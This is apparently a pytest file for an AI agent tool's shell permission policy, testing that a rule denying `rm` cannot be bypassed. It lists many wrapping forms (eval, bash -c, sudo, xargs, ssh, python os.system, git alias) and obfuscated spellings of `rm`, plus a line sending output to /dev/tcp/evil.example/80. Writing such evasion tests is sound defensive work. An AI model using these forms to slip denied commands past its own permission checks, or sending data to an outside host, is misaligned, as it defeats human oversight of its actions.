"""A denial of one command is never got round: whatever form it takes, the text is denied or a person is asked."""

from __future__ import annotations

from typing import Literal

import pytest

from tests.shell.corpus import all_cases, label
from windlass.events.values.policy import Rule
from windlass.runtime.bind.policy_conditions import verdict_of
from windlass.tools.description import CallPlace
from windlass.tools.shell.shell_description import shell_description

PLACE = CallPlace(folder="/ws")
HIDING = [case for case in all_cases() if "rm" in case.text and not case.reads]
FORMS = (
    "{}",
    "ls; {}",
    "ls;{}",
    "ls && {}",
    "ls || {}",
    "ls | {}",
    "ls |& {}",
    "ls & {}",
    "{} &",
    "ls\n{}",
    "ls\n\n\t{}",
    "({})",
    "( {} )",
    "{{ {}; }}",
    "! {}",
    "if {}; then ls; fi",
    "if ls; then {}; else ls; fi",
    "if ls; then ls; elif {}; then ls; fi",
    "while {}; do ls; done",
    "until ls; do {}; done",
    "for x in a; do {}; done",
    "case x in x) {};; esac",
    "f() {{ {}; }}; f",
    "function f {{ {}; }}; f",
    "echo $({})",
    "echo `{}`",
    'echo "$({})"',
    "echo ${{x:-$({})}}",
    "x=$({})",
    "x=`{}` ls",
    "ls > $({})",
    "cat <({})",
    "ls > >({})",
    "cat <<E\n$({})\nE",
    "cat <<E\n`{}`\nE",
    "cat <<< $({})",
    "cat <<E && {}\nx\nE",
    "[[ -n $({}) ]]",
    "echo $(( $({}) ))",
    "a[$({})]=1",
    "export X=$({})",
    "A=1 {}",
    "A=1 B=2 {}",
    "> out {}",
    "2>&1 {}",
    "< a.py {}",
    "{} > out",
    "{} # ls",
    "# x\n{}",
    "env {}",
    "env -i A=1 {}",
    "env -- {}",
    "sudo {}",
    "sudo -u x {}",
    "sudo A=1 {}",
    "doas {}",
    "nohup {}",
    "time {}",
    "time -p {}",
    "nice {}",
    "nice -n 5 {}",
    "ionice -c2 -n7 {}",
    "timeout 5 {}",
    "timeout -k 5 --foreground 5s {}",
    "stdbuf -o0 {}",
    "setsid {}",
    "command {}",
    "builtin {}",
    "exec {}",
    "busybox {}",
    "strace -f {}",
    "xargs {}",
    "xargs -0 -n1 {}",
    "xargs -I% {} %",
    "parallel {}",
    "find . -exec {} \\;",
    "find . -type f -exec {} +",
    "find . -execdir {} \\; -print",
    "fd . -x {}",
    "watch {}",
    "watch -n 1 -d {}",
    "ssh host {}",
    "ssh -i key -p 22 me@host {}",
    "docker exec -it c {}",
    "docker run --rm image {}",
    "kubectl exec pod -- {}",
    "uv run {}",
    "npx {}",
    "eval {}",
    "eval '{}'",
    "bash -c '{}'",
    'bash -c "{}"',
    "sh -c 'ls; {}'",
    "bash -lc '{}'",
    "bash -o pipefail -c '{}'",
    "sudo sh -c '{}'",
    "env X=1 bash -c 'nohup {}'",
    "su -c '{}' me",
    "trap '{}' EXIT",
    "script -qc '{}' /dev/null",
    "flock l -c '{}'",
    "find . -exec sh -c '{}' \\;",
    "xargs sh -c '{}'",
    "bash <<E\n{}\nE",
    "coproc {}",
    "time {{ {}; }}",
    "time ( {} )",
    "! ! {}",
    "time ! {}",
    "time A=1 {}",
    "ls >& '$({})'",
    "time -p -- ! {}",
    "bash -ic '{}'",
    "/lib/ld-linux.so.2 /bin/{}",
    "x; x; x; x | x | x\n{} && x; x",
    "{{ {}\n}}",
    "({}) > out 2>&1 &",
    "ls \\\n; {}",
    "select x in a; do {}; done",
    "echo '{}' | sh",
    "printf '{}' | bash -s",
    "python -c 'import os; os.system(\"{}\")'",
    "awk 'BEGIN{{system(\"{}\")}}'",
    "git -c alias.x='!{}' x",
    "git submodule foreach '{}'",
    "ls 'unfinished ; {}",
    "ls ) ; {}",
)
NAMES = (
    "rm",
    "\\rm",
    "r\\m",
    "'rm'",
    '"rm"',
    "r''m",
    'r"m"',
    "''rm",
    "/bin/rm",
    "/usr/bin/rm",
    "./rm",
    "//bin//rm",
    "r$@m",
    "r${x}m",
    "$'rm'",
    "$'\\x72m'",
    "r{m,}",
    "r?",
    "$(echo rm)",
    "`echo rm`",
    "$X",
    "~/rm",
    "r\\\nm",
)


def outcome(text: str) -> Literal["denied", "asked", "allowed"]:
    """What a policy makes of a text that allows everything and denies `rm`."""
    about = shell_description({"command": text}, PLACE)
    denied = verdict_of(Rule(action="deny", tool="shell", commands=("rm",)), {}, about, PLACE.folder)
    if denied:
        return "denied"
    return "asked" if denied is None or about.unclear is not None else "allowed"


@pytest.mark.parametrize("form", FORMS)
def test_no_form_hides_a_denied_command(form: str) -> None:
    assert outcome(form.format("rm a.py")) != "allowed"


@pytest.mark.parametrize("name", NAMES)
def test_no_spelling_hides_a_denied_command(name: str) -> None:
    assert {
        form: outcome(form.format(f"{name} a.py"))
        for form in FORMS
        if outcome(form.format(f"{name} a.py")) == "allowed"
    } == {}


@pytest.mark.parametrize("case", HIDING, ids=label)
def test_no_text_of_the_corpus_hides_a_denied_command(case: object) -> None:
    text = getattr(case, "text", "")
    runs = [line for line in getattr(case, "lines", ()) if line.split()[:1] == ["rm"]]
    assert outcome(text) == "denied" if runs else True


def test_most_forms_are_denied_outright_and_not_only_asked_about() -> None:
    plain = [form for form in FORMS if outcome(form.format("rm a.py")) == "denied"]
    assert len(plain) > 0.85 * len(FORMS)


def test_a_text_without_the_denied_command_is_allowed() -> None:
    assert {
        text: outcome(text) for text in ("ls", "echo rm", "grep rm a.py", "git commit -m 'rm x'", "ls -l 'rm a'")
    } == dict.fromkeys(("ls", "echo rm", "grep rm a.py", "git commit -m 'rm x'", "ls -l 'rm a'"), "allowed")


@pytest.mark.parametrize(
    ("text", "holds"),
    [
        ("echo x", True),
        ("echo x; echo y", True),
        ("echo x > src/y", True),
        ("echo x > /etc/y", False),
        ("echo x; ls", False),
        ("A=1 echo x", False),
        ("./echo x", False),
        ("sudo echo x", False),
        ("echo $X", False),
        ("echo x > /dev/tcp/evil.example/80", False),
        ("echo x | tee /etc/y", False),
    ],
)
def test_a_permission_for_one_command_lets_nothing_else_pass(text: str, holds: bool) -> None:
    about = shell_description({"command": text}, PLACE)
    with_writes = Rule(action="allow", tool="shell", commands=("echo",), writes=("src/**",))
    rule = with_writes if about.writes else Rule(action="allow", tool="shell", commands=("echo",))
    assert verdict_of(rule, {}, about, PLACE.folder) is holds
